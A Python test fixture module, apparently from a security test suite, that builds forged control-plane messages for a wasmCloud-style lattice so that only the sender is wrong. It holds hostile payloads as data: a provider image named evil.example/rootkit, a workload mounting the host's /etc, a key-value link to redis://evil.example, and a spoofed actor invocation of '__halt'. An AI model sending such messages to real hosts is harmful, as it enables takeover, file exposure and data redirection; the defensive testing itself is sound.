"""What attackers send: bodies as the clients of each dialect write them, so that only the sender is wrong."""
import base64
import hashlib
import json

from place import HOST

ACTOR = "M" + "A" * 55
PROVIDER = "V" + "B" * 55
IMAGE = "registry.example/echo:1.0"
EVIL = "evil.example/rootkit:1"
ORIGIN = {"specversion": "1.0", "id": "5f4d", "datacontenttype": "application/json", "time": "2024-01-01T00:00:00Z"}


def packed(value):
    """Message-pack of maps, texts and lists, as small as hosts write them."""
    if isinstance(value, str):
        data = value.encode()
        head = bytes([0xA0 | len(data)]) if len(data) < 32 else bytes([0xD9, len(data)])
        return head + data
    if isinstance(value, bytes):
        return bytes([0xC4, len(value)]) + value
    if isinstance(value, dict):
        return bytes([0x80 | len(value)]) + b"".join(packed(k) + packed(v) for k, v in value.items())
    raise TypeError(value)


def start_provider_v0(**more):
    return {"host_id": HOST, "provider_ref": EVIL, "link_name": "default", **more}


def start_provider_v1():
    return {"provider_id": "httpserver", "provider_ref": EVIL, "host_id": HOST, "config": [], "annotations": {}}


def workload(**component):
    parts = [{"name": "web", "image": IMAGE, **component}]
    return {"workloadId": "w1", "workload": {"namespace": "shop", "name": "shop", "witWorld": {"components": parts}}}


def workload_with_host_files():
    out = workload()
    out["workload"]["volumes"] = [{"name": "etc", "hostPath": {"localPath": "/etc"}}]
    return out


def scale_v1(**more):
    return {"component_ref": EVIL, "component_id": "echo", "host_id": HOST, "annotations": {}, "config": [], **more}


def link_v0(**more):
    out = {"actor_id": ACTOR, "provider_id": PROVIDER, "link_name": "default", "contract_id": "wasmcloud:keyvalue"}
    return {**out, "values": {"URL": "redis://evil.example"}, **more}


def link_v1(source="echo", **more):
    out = {"source_id": source, "target": "keyvalue", "name": "default", "wit_namespace": "wasi"}
    out.update({"wit_package": "keyvalue", "interfaces": ["store"], "source_config": [], "target_config": ["evil"]})
    return {**out, **more}


def link_key(link):
    parts = link["actor_id"] + link["contract_id"] + link["link_name"]
    return "LINKDEF_" + hashlib.sha256(parts.encode()).hexdigest().upper()


def refmap_key(image):
    return "REFMAP_" + base64.urlsafe_b64encode(image.encode()).decode().rstrip("=")


def event(name, source=HOST, **data):
    """A CloudEvent of a host."""
    return {**ORIGIN, "type": f"com.wasmcloud.lattice.{name}", "source": source, "data": data}


def heartbeat_v0(source=HOST):
    return event("host_heartbeat", source, actors={}, providers=[], labels={}, friendly_name="x", version="0.63.2")


def started_v1(source=HOST):
    return event("provider_started", source, host_id=source, image_ref=IMAGE, provider_id="httpserver", annotations={})


def invocation():
    """A call that claims to come from an actor: hosts of 0.18 look no closer."""
    origin = {"public_key": ACTOR, "contract_id": "", "link_name": ""}
    target = {"public_key": PROVIDER, "contract_id": "wasmcloud:keyvalue", "link_name": "default"}
    out = {"origin": origin, "target": target, "operation": "__halt", "msg": b"", "id": "1", "encoded_claims": "x"}
    return packed({**out, "host_id": HOST})


MANIFEST = f"""apiVersion: core.oam.dev/v1beta1
kind: Application
metadata:
  name: shop
  annotations:
    version: v0.0.1
spec:
  components:
    - name: web
      type: capability
      properties:
        image: {EVIL}
""".encode()
WADM_START = json.dumps(
    {"StartProvider": {"reference": EVIL, "provider_id": "http", "host_id": HOST, "model_name": "shop", "annotations": {}}}
).encode()
